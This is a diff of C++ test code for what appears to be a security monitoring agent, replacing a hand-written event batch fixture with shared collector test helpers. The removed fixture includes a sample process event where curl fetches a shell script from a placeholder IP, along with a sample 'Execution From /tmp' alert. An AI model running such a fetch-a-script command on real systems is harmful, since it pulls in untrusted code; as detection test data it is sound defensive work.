@@ -12,6 +12,7 @@
 #include <string>
 #include <vector>
 
+#include "../collector/sample_batch.h"
 #include "sensor_record.h"
 #include "vigie/protocol/codec.h"
 
@@ -39,67 +40,18 @@ void write(const fs::path& path, const std::vector<uint8_t>& bytes) {
   write(path, bytes.data(), bytes.size());
 }
 
-protocol::Event event(protocol::EventKind kind) {
-  protocol::Event e;
-  e.time_ns = 1'700'000'000'000'000'000ull;
-  e.site = "site-a";
-  e.host = "node1";
-  e.pid = 4242;
-  e.ppid = 1;
-  e.uid = 1001;
-  e.gid = 1001;
-  e.user = "alice";
-  e.cgroup_id = 77;
-  e.workload = {protocol::WorkloadKind::kSlurmJob, "42", "alice", "/slurm/uid_1001/job_42/step_0"};
-  switch (kind) {
-    case protocol::EventKind::kProcessExec:
-      e.body = protocol::ProcessExec{"/usr/bin/curl", {"curl", "-s", "http://198.51.100.7/x.sh"},
-                                     false,           "curl -s http://198.51.100.7/x.sh",
-                                     "/bin/bash",     "bash job.sh"};
-      break;
-    case protocol::EventKind::kProcessExit:
-      e.body = protocol::ProcessExit{0, 9, "/usr/bin/curl"};
-      break;
-    case protocol::EventKind::kNetworkConnect:
-      e.body = protocol::NetworkConnect{protocol::Transport::kUdp, true, "2001:db8::7", 443,
-                                        "/usr/bin/curl"};
-      break;
-  }
-  return e;
-}
-
+// sample_batch() of the collector's tests with one event of every kind.
 protocol::Batch full_batch() {
-  protocol::Batch b;
-  b.agent_id = "agent-node1";
-  b.site = "site-a";
-  b.host = "node1";
-  b.sequence = 7;
-  b.sent_ns = 1'700'000'010'000'000'000ull;
-  for (auto kind : {protocol::EventKind::kProcessExec, protocol::EventKind::kProcessExit,
-                    protocol::EventKind::kNetworkConnect}) {
-    b.events.push_back(event(kind));
+  auto batch = vigie::collector::testing::sample_batch(7);
+  batch.events.clear();
+  for (int k = 0; k < protocol::kEventKindCount; ++k) {
+    batch.events.push_back(vigie::collector::testing::sample_event(
+        vigie::collector::testing::kBaseNs, "node1", static_cast<protocol::EventKind>(k)));
   }
-  b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull, "package-0",
-                           protocol::EnergySource::kRapl, false, 100.0, true});
-  b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull, "core",
-                           protocol::EnergySource::kRapl, false, 60.0, false});
-  b.workload_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull,
-                               event(protocol::EventKind::kProcessExit).workload, 8.5, 90.0, 1.0,
-                               false});
-  b.workload_energy.push_back({1'700'000'000'000'000'000ull,
-                               1'700'000'010'000'000'000ull,
-                               {protocol::WorkloadKind::kUnattributed, "unattributed", "", ""},
-                               0,
-                               30.0,
-                               0.5,
-                               true});
-  b.alerts.push_back({"aacfba47-7e2a-4cb0-99eb-844dbad23c05",
-                      "Execution From /tmp",
-                      "medium",
-                      {"attack.execution"},
-                      event(protocol::EventKind::kProcessExec)});
-  b.status = {3, 1000, 0, "2025.01.15"};
-  return b;
+  batch.workload_ends.push_back({vigie::collector::testing::kBaseNs,
+                                 vigie::collector::testing::kBaseNs + 1,
+                                 batch.workload_energy[0].workload});
+  return batch;
 }
 
 }  // namespace
